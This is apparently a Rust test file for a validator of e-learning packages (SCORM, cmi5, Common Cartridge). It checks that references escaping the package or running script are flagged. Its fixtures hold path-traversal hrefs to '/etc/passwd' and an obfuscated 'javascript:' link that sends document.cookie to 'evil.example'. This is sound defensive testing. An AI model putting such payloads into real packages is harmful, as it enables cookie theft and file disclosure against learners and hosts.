//! References that leave the package or run script: manifest `href` and `xml:base`, cmi5 AU
//! `url`, a cartridge web link. A file outside the folder that the reference names holds a
//! marker that must never appear: it is never opened.

use super::{SECRET, messages, validate};
use crate::fixture::fixtures;
use std::path::Path;

/// Copies the fixture folder `validate/<case>` into `dir`, replacing `old` with `new` in
/// `file`.
fn fixture_with(case: &str, dir: &Path, file: &str, old: &str, new: &str) {
    let from = fixtures().join("validate").join(case);
    for entry in std::fs::read_dir(&from).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), dir.join(entry.file_name())).unwrap();
    }
    let text = std::fs::read_to_string(dir.join(file)).unwrap();
    assert!(text.contains(old), "{case}/{file}: no {old:?}");
    std::fs::write(dir.join(file), text.replacen(old, new, 1)).unwrap();
}

#[test]
fn hrefs_and_xml_base_that_leave_the_package_are_errors() {
    let root = tempfile::tempdir().unwrap();
    std::fs::write(root.path().join("secret.html"), SECRET).unwrap();
    let pkg = root.path().join("pkg");
    std::fs::create_dir(&pkg).unwrap();
    fixture_with(
        "REF018/clean",
        &pkg,
        "imsmanifest.xml",
        "<file href=\"index.html\"/>",
        "<file href=\"index.html\"/>\n      <file href=\"../secret.html\"/>\n      <file href=\"/etc/passwd\"/>\n      <file href=\"a/..\\..\\..\\x.js\"/>\n      <file href=\"file:///etc/passwd\"/>\n      <file href=\"%2e%2e/secret.html\"/>\n      <file href=\"sub/../index.html\"/>\n      <file href=\"https://cdn.example.org/x.js\"/>",
    );
    let (run, codes, findings) = validate(&pkg, "hrefs leaving a folder");
    assert_eq!(run.code, Some(1));
    let out = messages(&findings, "REF018");
    assert_eq!(out.len(), 5, "{codes:?}\n{out:#?}");
    for (href, why) in [
        ("../secret.html", "climb out"),
        ("/etc/passwd", "an absolute path"),
        ("a/..\\\\..\\\\..\\\\x.js", "climb out"),
        ("file:///etc/passwd", "a `file:` URL"),
        ("%2e%2e/secret.html", "climb out"),
    ] {
        assert!(
            out.iter()
                .any(|m| m.contains(&format!("`{href}`")) && m.contains(why)),
            "{href}: {out:#?}"
        );
    }

    let dir = tempfile::tempdir().unwrap();
    fixture_with(
        "REF018/clean",
        dir.path(),
        "imsmanifest.xml",
        "<resource identifier=\"res1\"",
        "<resource xml:base=\"../../\" identifier=\"res1\"",
    );
    let (_, codes, findings) = validate(dir.path(), "xml:base leaving");
    let out = messages(&findings, "REF018");
    assert_eq!(out.len(), 1, "{codes:?}");
    assert!(
        out[0].contains("`xml:base` of `<resource>` `../../`"),
        "{out:?}"
    );
}

#[test]
fn cmi5_urls_that_leave_the_package_or_run_script_are_errors() {
    for (url, code, why) in [
        ("../../outside/index.html", "REF018", "climb out"),
        ("file:///etc/passwd", "REF018", "a `file:` URL"),
        (
            "JavaScript:alert(document.cookie)",
            "REF019",
            "`javascript:` URL",
        ),
    ] {
        let dir = tempfile::tempdir().unwrap();
        fixture_with(
            "REF019/clean",
            dir.path(),
            "cmi5.xml",
            "<url>index.html</url>",
            &format!("<url>{url}</url>"),
        );
        let (run, codes, findings) = validate(dir.path(), url);
        assert_eq!(run.code, Some(1), "{url}");
        let found = messages(&findings, code);
        assert_eq!(found.len(), 1, "{url}: {codes:?}");
        assert!(
            found[0].contains("the AU's `<url>`") && found[0].contains(why),
            "{found:?}"
        );
    }
}

#[test]
fn a_web_link_that_runs_script_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    fixture_with(
        "REF013/clean",
        dir.path(),
        "imsmanifest.xml",
        "type=\"imsdt_xmlv1p1\"",
        "type=\"imswl_xmlv1p1\"",
    );
    std::fs::write(
        dir.path().join("topic.xml"),
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<webLink xmlns=\"http://www.imsglobal.org/xsd/imsccv1p1/imswl_v1p1\">\n  <title>Video</title>\n  <url href=\"java&#9;script:fetch('//evil.example/'+document.cookie)\"/>\n</webLink>\n",
    )
    .unwrap();
    let (run, codes, findings) = validate(dir.path(), "javascript web link");
    assert_eq!(run.code, Some(1));
    let f = findings
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "REF019")
        .unwrap_or_else(|| panic!("{codes:?}"));
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("the web link's `<url href>` is a `javascript:` URL"),
        "{f:#}"
    );
    assert!(f["file"].as_str().unwrap().ends_with("topic.xml"), "{f:#}");
    assert_eq!(
        (f["line"].as_u64(), f["column"].as_u64()),
        (Some(4), Some(8)),
        "{f:#}"
    );
    // A https web link is fine.
    std::fs::write(
        dir.path().join("topic.xml"),
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<webLink xmlns=\"http://www.imsglobal.org/xsd/imsccv1p1/imswl_v1p1\"><title>Video</title><url href=\"https://example.org/v\"/></webLink>\n",
    )
    .unwrap();
    let (_, codes, _) = validate(dir.path(), "https web link");
    assert!(!codes.iter().any(|c| c.starts_with("REF01")), "{codes:?}");
}
